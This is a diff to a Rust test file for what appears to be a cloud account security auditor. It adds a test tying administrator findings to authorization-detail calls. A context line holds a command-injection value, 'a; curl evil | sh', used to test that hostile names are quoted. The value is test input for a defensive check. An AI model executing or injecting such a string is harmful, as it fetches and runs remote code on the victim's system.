@@ -117,6 +117,22 @@ fn a_verdict_by_an_old_report_says_how_old() {
 }
 
 #[test]
+fn a_severity_that_rests_on_a_standing_cites_the_grants() {
+    let grants = |fixture: AccountFixture| {
+        let rows = fixture.judged(find("user-single-mfa-device").unwrap());
+        let calls = rows[0].evidence.iter().map(|cited| cited.receipt.call.operation);
+        calls.filter(|call| **call == operation::GET_ACCOUNT_AUTHORIZATION_DETAILS).count()
+    };
+    let one = || user().devices(&["totp"]);
+    assert!(grants(account().user(one().administrator())) > 0);
+    assert_eq!(
+        grants(account().user(one())),
+        0,
+        "an ordinary user's severity rests on nothing else"
+    );
+}
+
+#[test]
 fn hostile_names_are_quoted_in_commands() {
     let hostile = account().user(with_key("a; curl evil | sh"));
     for check in CHECKS {
